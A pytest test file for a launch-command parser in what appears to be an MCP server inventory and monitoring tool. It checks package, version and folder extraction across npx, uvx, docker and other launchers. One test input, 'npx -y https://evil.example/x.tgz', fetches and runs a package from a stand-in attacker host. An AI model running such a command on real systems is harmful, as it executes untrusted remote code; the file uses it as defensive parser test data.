import pytest
from hypothesis import given
from hypothesis import strategies as st

from mcp_siem.inventory.launch import Launch, read_launch, words_of

_FS = "@modelcontextprotocol/server-filesystem"


@pytest.mark.parametrize(
    ("line", "package", "version"),
    [
        (f"npx -y {_FS} /home/a", _FS, "latest"),
        (f"npx -y {_FS}@2025.3.28 /home/a", _FS, "2025.3.28"),
        ("npx -y --package=foo@1.0.0 bar", "foo", "1.0.0"),
        ("npx --package foo@2 bar", "foo", "2"),
        ("npm exec -y foo@1.2.3", "foo", "1.2.3"),
        ("pnpm dlx foo", "foo", "latest"),
        ("bunx foo@next", "foo", "next"),
        ("npx -y https://evil.example/x.tgz", "https://evil.example/x.tgz", None),
        ("uvx mcp-server-git", "mcp-server-git", "latest"),
        ("uvx mcp-server-git@2025.1.14", "mcp-server-git", "2025.1.14"),
        ("uvx 'mcp-server-git[all]==2025.1.14'", "mcp-server-git", "2025.1.14"),
        ("uvx 'mcp-server-git>=2025'", "mcp-server-git", ">=2025"),
        ("uvx --python 3.12 --from git+https://github.com/x/y tool", "git+https://github.com/x/y", None),
        ("uv tool run mcp-server-time", "mcp-server-time", "latest"),
        ("uv --directory /opt/s run server.py", "server.py", None),
        ("uv run python -m mcp_server_git", "mcp-server-git", None),
        ("pipx run mcp-server-time==1.0", "mcp-server-time", "1.0"),
        ("docker run -i --rm -e TOKEN -v /a:/b ghcr.io/acme/server:v1.2 stdio", "ghcr.io/acme/server", "v1.2"),
        ("docker run --name x mcp/fetch", "mcp/fetch", "latest"),
        ("docker run -i localhost:5000/mcp/fetch", "localhost:5000/mcp/fetch", "latest"),
        ("podman container run mcp/fetch@sha256:abc", "mcp/fetch", "sha256:abc"),
        (f"node /x/node_modules/{_FS}/dist/index.js /home/a", _FS, None),
        ("node --inspect /opt/own/server.js", "/opt/own/server.js", None),
        ("deno run -A npm:@acme/tool@1.0", "@acme/tool", "1.0"),
        ("python -m mcp_server_git", "mcp-server-git", None),
        ("python3.11 -u server.py", "server.py", None),
        ("python -c 'import os'", None, None),
        ("env A=b npx -y foo@1.2.3", "foo", "1.2.3"),
        ("sudo -u nobody npx foo", "foo", "latest"),
        ("A=1 B=2 uvx foo", "foo", "latest"),
        (r'cmd /c npx -y foo "C:\Users\me"', "foo", "latest"),
        (r"C:\tools\github-mcp-server.exe stdio", "github-mcp-server", None),
        ("npx", None, None),
        ("docker run -i", None, None),
        ("", None, None),
    ],
)
def test_the_package_of_a_launch_command_is_found(line: str, package: str | None, version: str | None) -> None:
    found = read_launch(words_of(line))
    assert (found.package, found.version) == (package, version)


@pytest.mark.parametrize(
    ("line", "roots"),
    [
        (f"npx -y {_FS} /home/a/docs ~/notes", ("/home/a/docs", "~/notes")),
        (f"node /x/node_modules/{_FS}/dist/index.js /srv/data", ("/srv/data",)),
        (r'npx -y @modelcontextprotocol/server-filesystem "C:\My Docs"', ("C:\\My Docs",)),
        ("docker run -i -v /u:/projects mcp/filesystem /projects", ("/projects",)),
        ("uvx mcp-server-git --repository /srv/repo", ("/srv/repo",)),
        ("uvx some-server --allowed-dirs=/a,/b", ("/a", "/b")),
        ("some-server --allow-dir /a /b --port 80", ("/a", "/b")),
        (f"npx {_FS} --log /var/log/x /srv", ("/srv",)),
        (f"npx {_FS} .", ()),
        ("npx -y server-memory /srv/data", ()),
        ("node /x/filesystem/other.txt --config /etc/x", ()),
    ],
)
def test_the_folders_of_a_file_server_are_found(line: str, roots: tuple[str, ...]) -> None:
    assert read_launch(words_of(line)).roots == roots


@given(st.lists(st.text(max_size=20) | st.sampled_from(["npx", "docker", "run", "uv", "-p", "--from", "env", "a=b"])))
def test_no_command_line_breaks_the_reader(words: list[str]) -> None:
    assert isinstance(read_launch(words), Launch)
    assert isinstance(read_launch(words_of(" ".join(words))), Launch)
